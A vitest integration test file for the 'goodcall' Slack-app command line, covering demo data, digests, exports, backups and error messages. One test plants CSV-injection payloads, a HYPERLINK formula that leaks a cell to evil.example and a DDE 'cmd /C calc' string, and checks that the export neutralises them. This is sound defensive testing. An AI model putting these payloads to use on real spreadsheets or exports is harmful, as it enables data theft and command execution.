// The goodcall command line on a real database: demo, export, backup, and clear errors.
import { execFile } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { DateTime } from "luxon";
import { expect, it } from "vitest";
import { closeDatabase, openDatabase } from "../../src/db/client.ts";
import { cliArgs } from "../support/cli.ts";
import { freshDatabaseUrl, testDatabaseKind } from "../support/db.ts";
import { startFakeSlack } from "../support/fakeSlack.ts";

const run = promisify(execFile);
const root = fileURLToPath(new URL("../..", import.meta.url));

function cli(args: string[], env: Record<string, string>) {
  return run(process.execPath, cliArgs(...args), {
    cwd: root,
    env: {
      PATH: process.env.PATH ?? "",
      DOTENV_CONFIG_PATH: path.join(tmpdir(), "goodcall-no-such.env"),
      ...env,
    },
  }).then(
    ({ stdout, stderr }) => ({ code: 0, stdout, stderr }),
    (error: { code: number; stdout: string; stderr: string }) => error,
  );
}

/** A database for `goodcall demo`: a new SQLite file, or an empty migrated PostgreSQL database. */
async function demoDatabaseUrl(dir: string): Promise<string> {
  return testDatabaseKind() === "postgresql" ? freshDatabaseUrl() : `file:${path.join(dir, "demo.db")}`;
}

it("fills a demo database, shows its digests, exports a team and backs it up", async () => {
  const dir = mkdtempSync(path.join(tmpdir(), "goodcall-cli-"));
  const databaseUrl = await demoDatabaseUrl(dir);
  const demo = await cli(["demo", "--database", databaseUrl], {});
  expect(demo.stdout).toContain("2 teams, 26 good calls, 2 stories");
  expect(demo.stdout).toContain("=== Digest preview for #support-helsinki");
  expect(demo.stdout).toContain("Viikon hyvät ratkaisut");
  // People by name everywhere, never Slack's markup or bare ids.
  expect(demo.stdout).toContain("  - @Fanni: Vaihdoin rikkinäisen vedenkeittimen");
  expect(demo.stdout).toMatch(/^@Bea \(3 good calls, 1 story\), @Chen \(2 good calls\), @Diana/mu);
  expect(demo.stdout).not.toMatch(/<[@#!]|&lt;|&gt;|&amp;/u);
  expect(demo.stdout).not.toMatch(/\bU[A-Z]{3,}\b/u);
  // The whole loop: one of each DM, as the outbox renders it.
  const section = (title: string) => {
    const start = demo.stdout.indexOf(`=== ${title}`);
    expect(start, `no section "${title}" in:\n${demo.stdout}`).toBeGreaterThanOrEqual(0);
    const end = demo.stdout.indexOf("\n=== ", start + 1);
    return demo.stdout.slice(start, end === -1 ? undefined : end);
  };
  expect(
    section('Instant DM to @Aino (a manager who chose "instant") when @Bea logged a good call'),
  ).toContain("@Bea made a good call\n│ Gave a 10 EUR voucher because the parcel was three days late");
  expect(section('Daily roundup DM to @Aino (a manager who chose "daily") at 16:00')).toContain(
    "Today's good calls in #support-helsinki",
  );
  expect(section("Weekly summary DM to @Aino, the manager of #support-helsinki")).toContain(
    "Your weekly GoodCall summary: #support-helsinki",
  );
  expect(section("Weekly summary DM to @Eino, the manager of #myymala-tampere")).toContain(
    "GoodCall-viikkoyhteenvetosi: #myymala-tampere",
  );
  expect(section("Follow-up DM to @Chen")).toContain("[It helped] [No change] [It backfired]");
  expect(section("Promise reminder DM to @Bea")).toContain(
    "│ Promised to call back today once the replacement router has shipped\n[Kept]",
  );

  const csv = await cli(["export", "--team", "CDEMOSUPPORT"], { DATABASE_URL: databaseUrl });
  const lines = csv.stdout.trim().split("\n");
  expect(lines[0]).toBe(
    "type,id,createdAt,authorId,text,why,tags,value,currency,outcome,promiseDue,promiseStatus,appreciations,visibility",
  );
  expect(csv.stdout).toContain("Gave a 10 EUR voucher because the parcel was three days late");
  const json = await cli(["export", "--team", "CDEMOSUPPORT", "--format", "json"], {
    DATABASE_URL: databaseUrl,
  });
  expect(JSON.parse(json.stdout)).toHaveLength(24);

  const backup = path.join(dir, "backup.db");
  const result = await cli(["backup", backup], { DATABASE_URL: databaseUrl });
  if (testDatabaseKind() === "postgresql") {
    // PostgreSQL is backed up with its own tools; the CLI says so and writes nothing.
    expect(result.code).toBe(2);
    expect(result.stderr).toContain("back it up with PostgreSQL's own tools, e.g. pg_dump");
    expect(result.stderr).not.toContain(databaseUrl);
    expect(existsSync(backup)).toBe(false);
    const again = await cli(["demo", "--database", databaseUrl], {});
    expect(again.code).toBe(2);
    expect(again.stderr).toContain("already has teams; the demo fills only an empty database");
    return;
  }
  expect(result.stdout).toContain("Backed up");
  expect(existsSync(backup)).toBe(true);
}, 60_000);

// SQLite only: the backup command copies a SQLite file (on PostgreSQL it refuses, tested above).
it.runIf(testDatabaseKind() === "sqlite")(
  "refuses to overwrite an existing file with a backup unless told to with --force",
  async () => {
    const dir = mkdtempSync(path.join(tmpdir(), "goodcall-cli-"));
    const databaseUrl = await demoDatabaseUrl(dir);
    await cli(["demo", "--database", databaseUrl], {});
    const existing = path.join(dir, "last-night.db");
    writeFileSync(existing, "last night's backup");

    const refused = await cli(["backup", existing], { DATABASE_URL: databaseUrl });
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain(
      `${existing} already exists; nothing was written. Choose another file name, or add --force to replace it.`,
    );
    expect(readFileSync(existing, "utf8")).toBe("last night's backup");

    const forced = await cli(["backup", existing, "--force"], { DATABASE_URL: databaseUrl });
    expect(forced.stdout).toContain("Backed up");
    expect(readFileSync(existing).subarray(0, 15).toString("latin1")).toBe("SQLite format 3");
  },
  60_000,
);

it("writes its logs to stderr, so stdout holds only what the operator asked for", async () => {
  const dir = mkdtempSync(path.join(tmpdir(), "goodcall-cli-"));
  const databaseUrl = await demoDatabaseUrl(dir);
  await cli(["demo", "--database", databaseUrl], {});
  const fake = await startFakeSlack();
  try {
    // An hour after the demo teams' first digest slot (Friday 15:00 in Helsinki) it is due, and so are
    // the managers' summaries that go with it.
    const helsinki = DateTime.now().setZone("Europe/Helsinki");
    const friday = helsinki.plus({ days: (5 - helsinki.weekday + 7) % 7 || 7 });
    const at = friday.set({ hour: 16, minute: 0, second: 0, millisecond: 0 }).toUTC().toISO() ?? "";
    const run = await cli(["jobs", "run", "--at", at], {
      DATABASE_URL: databaseUrl,
      SLACK_BOT_TOKEN: "xoxb-cli-test",
      SLACK_API_URL: fake.url,
      LOG_LEVEL: "info",
    });
    const jsonLines = (text: string) => text.split("\n").filter((line) => line.startsWith("{"));
    // The check can fail: at info level the run does log (each digest posted).
    expect(
      jsonLines(run.stderr).some((line) => line.includes('"digest posted"')),
      run.stderr,
    ).toBe(true);
    expect(run.stdout).toContain("posted");
    expect(jsonLines(run.stdout)).toEqual([]);
  } finally {
    await fake.close();
  }
}, 60_000);

it("previews a digest run with people as @id, not Slack's <@id> markup", async () => {
  const dir = mkdtempSync(path.join(tmpdir(), "goodcall-cli-"));
  const databaseUrl = await demoDatabaseUrl(dir);
  await cli(["demo", "--database", databaseUrl], {});
  // An hour after the demo team's first digest slot (the coming Friday 15:00 in Helsinki) it is due.
  const helsinki = DateTime.now().setZone("Europe/Helsinki");
  const friday = helsinki.plus({ days: (5 - helsinki.weekday + 7) % 7 || 7 });
  const at = friday.set({ hour: 16, minute: 0, second: 0, millisecond: 0 }).toUTC().toISO() ?? "";
  const preview = await cli(["digest", "run", "--dry-run", "--team", "CDEMOSUPPORT", "--at", at], {
    DATABASE_URL: databaseUrl,
  });
  const text = preview.stdout.slice(0, preview.stdout.indexOf("--- Block Kit JSON"));
  expect(text, preview.stdout + preview.stderr).toContain("=== Digest preview: #support-helsinki");
  expect(text).toMatch(/@UBEA\b/u);
  expect(text).not.toContain("<@");
}, 60_000);

it("exports text that starts like a formula as text, so a spreadsheet does not run it", async () => {
  const dir = mkdtempSync(path.join(tmpdir(), "goodcall-cli-"));
  const databaseUrl = await demoDatabaseUrl(dir);
  await cli(["demo", "--database", databaseUrl], {});
  const db = await openDatabase(databaseUrl);
  const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the voucher")';
  try {
    const now = new Date();
    await db
      .insertInto("GoodCall")
      .values({
        teamId: "CDEMOSUPPORT",
        authorId: "UATTACKER",
        what: formula,
        why: "@SUM(1+1)*cmd|' /C calc'!A0",
        createdAt: now,
        updatedAt: now,
      })
      .execute();
  } finally {
    await closeDatabase(db);
  }
  const csv = await cli(["export", "--team", "CDEMOSUPPORT"], { DATABASE_URL: databaseUrl });
  expect(csv.stdout).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open the voucher"")"`);
  expect(csv.stdout).toContain(`'@SUM(1+1)`);
  // No cell of any row starts with a formula sign, quoted or not.
  expect(csv.stdout).not.toMatch(/(?:^|,)"?[=+\-@\t\r]/mu);
  const json = await cli(["export", "--team", "CDEMOSUPPORT", "--format", "json"], {
    DATABASE_URL: databaseUrl,
  });
  expect((JSON.parse(json.stdout) as Array<{ text: string }>).map((row) => row.text)).toContain(formula);
}, 60_000);

it("explains bad arguments instead of failing obscurely", async () => {
  const unknownTeam = await cli(["export", "--team", "C0NOSUCH"], {
    DATABASE_URL: `file:${path.join(mkdtempSync(path.join(tmpdir(), "goodcall-cli-")), "x.db")}`,
  });
  expect(unknownTeam.stderr).toContain("No team uses channel C0NOSUCH");
  const badTime = await cli(["digest", "run", "--at", "yesterday"], {});
  expect(badTime.stderr).toContain("use an ISO time");
  const noToken = await cli(["digest", "run"], {
    DATABASE_URL: `file:${path.join(mkdtempSync(path.join(tmpdir(), "goodcall-cli-")), "y.db")}`,
  });
  expect(noToken.stderr).toContain("SLACK_BOT_TOKEN is missing");
}, 60_000);
